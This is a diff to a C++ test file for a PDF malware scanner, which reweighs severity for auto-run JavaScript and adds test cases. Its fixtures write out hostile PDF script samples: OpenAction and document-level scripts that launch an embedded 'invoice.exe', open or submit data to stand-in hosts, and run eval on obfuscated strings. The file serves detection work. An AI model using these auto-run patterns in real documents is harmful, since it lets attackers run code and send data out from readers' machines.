@@ -62,7 +62,7 @@ TEST_F(PdfTest, ObfuscatedJavaScriptInOpenActionIsFound) {
   ASSERT_EQ(pdf.find("/JavaScript"), std::string::npos);
   Collector c = Scan(pdf);
   ASSERT_TRUE(c.Has("pdf.javascript")) << c.Ids();
-  EXPECT_EQ(c.Find("pdf.javascript")->severity, 6);
+  EXPECT_EQ(c.Find("pdf.javascript")->severity, 8);  // auto-run + util.printf and a %u0c0c spray
   EXPECT_TRUE(c.HasTechnique("pdf.javascript", "T1059.007"));
   ASSERT_TRUE(c.Has("pdf.auto_action"));
   EXPECT_NE(c.Find("pdf.auto_action")->evidence.find("OpenAction /JavaScript"), std::string::npos);
@@ -82,8 +82,10 @@ TEST_F(PdfTest, JavaScriptStreamInNamesTree) {
                               Stream("", "app.alert('hello');")});
   Collector c = Scan(pdf);
   ASSERT_TRUE(c.Has("pdf.javascript")) << c.Ids();
-  EXPECT_EQ(c.Find("pdf.javascript")->severity, 4);  // not automatic
-  EXPECT_FALSE(c.Has("pdf.auto_action"));
+  // Document-level JavaScript runs on open (automatic), but an alert is display-only.
+  EXPECT_EQ(c.Find("pdf.javascript")->severity, 3);
+  ASSERT_TRUE(c.Has("pdf.auto_action"));
+  EXPECT_NE(c.Find("pdf.auto_action")->evidence.find("Names /JavaScript"), std::string::npos);
   ASSERT_NE(c.Child("script.js"), nullptr);
   EXPECT_EQ(*c.Child("script.js"), "app.alert('hello');");
   EXPECT_TRUE(RunDetector(*scripts_, MakeObject("script.js", *c.Child("script.js"))).findings.empty());
@@ -94,7 +96,57 @@ TEST_F(PdfTest, PageAdditionalActionsAreAutoActions) {
                               "<< /Type /Page /Parent 2 0 R /AA << /O << /S /JavaScript /JS (this.print\\(\\)) >> >> >>"});
   Collector c = Scan(pdf);
   EXPECT_TRUE(c.Has("pdf.auto_action")) << c.Ids();
-  EXPECT_EQ(c.Find("pdf.javascript")->severity, 6);
+  EXPECT_EQ(c.Find("pdf.javascript")->severity, 3);  // print dialog only
+}
+
+// Auto-run scripts weighed by what they do: reaching out or running decoded code is malicious (8);
+// a print dialog or date formatting on open stays low (3); an unknown script on open stays 6.
+std::string OpenActionJs(const std::string& js) {
+  return BuildPdf({"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", kPages, kPage,
+                   "<< /Type /Action /S /JavaScript /JS 5 0 R >>", Stream("", js)});
+}
+
+TEST_F(PdfTest, AutoRunScriptsThatReachOutAreMalicious) {
+  const std::pair<const char*, const char*> cases[] = {
+      {"this.exportDataObject({ cName: \"invoice.exe\", nLaunch: 2 });", "exportDataObject"},
+      {"app.launchURL(\"http://update.example.net/get.php\", true);", "launchURL"},
+      {"this.submitForm({ cURL: \"https://collect.example.net/p\", cSubmitAs: \"HTML\" });", "submitForm"},
+      {"var p = \"%61%6c%65%72%74%28%31%29\"; eval(unescape(p));", "eval of unescape"},
+      {"var s = String.fromCharCode(97,108,101,114,116); eval(s + '(1)');", "eval of unescape/fromCharCode"},
+  };
+  for (const auto& [js, what] : cases) {
+    Collector c = Scan(OpenActionJs(js));
+    ASSERT_TRUE(c.Has("pdf.javascript")) << js;
+    EXPECT_EQ(c.Find("pdf.javascript")->severity, 8) << js;
+    EXPECT_NE(c.Find("pdf.javascript")->title.find(what), std::string::npos) << c.Find("pdf.javascript")->title;
+  }
+  // The same capability without an automatic trigger is suspicious, not malicious.
+  std::string manual = BuildPdf({"<< /Type /Catalog /Pages 2 0 R >>", kPages, kPage,
+                                 "<< /Type /Annot /Subtype /Link /A << /S /JavaScript /JS (app.launchURL\\(\"http://x.example/\"\\);) >> >>"});
+  Collector m = Scan(manual);
+  EXPECT_EQ(m.Find("pdf.javascript")->severity, 6) << m.Ids();
+}
+
+TEST_F(PdfTest, DocumentLevelScriptThatLaunchesAnAttachmentIsMalicious) {
+  std::string pdf = BuildPdf({"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>", kPages, kPage,
+                              "<< /Names [(init) 5 0 R] >>", "<< /S /JavaScript /JS 6 0 R >>",
+                              Stream("", "this.exportDataObject({ cName: 'scan.pdf.exe', nLaunch: 2 });")});
+  Collector c = Scan(pdf);
+  ASSERT_TRUE(c.Has("pdf.javascript")) << c.Ids();
+  EXPECT_EQ(c.Find("pdf.javascript")->severity, 8);
+}
+
+TEST_F(PdfTest, DisplayOnlyAutoRunScriptsStayLow) {
+  for (const char* js : {"this.print({ bUI: true, bSilent: false });",
+                         "AFDate_FormatEx(\"dd.mm.yyyy\"); event.value = util.printx(\"99-99\", event.value);",
+                         "app.alert(\"Please fill in all fields.\");"}) {
+    Collector c = Scan(OpenActionJs(js));
+    ASSERT_TRUE(c.Has("pdf.javascript")) << js;
+    EXPECT_EQ(c.Find("pdf.javascript")->severity, 3) << js;
+  }
+  // Unknown code on open (a function, no known API) keeps the old weight.
+  Collector u = Scan(OpenActionJs("function f(a){ return a * 2; } var x = f(this.numPages);"));
+  EXPECT_EQ(u.Find("pdf.javascript")->severity, 6);
 }
 
 TEST_F(PdfTest, EmbeddedFileIsExtractedWithItsName) {
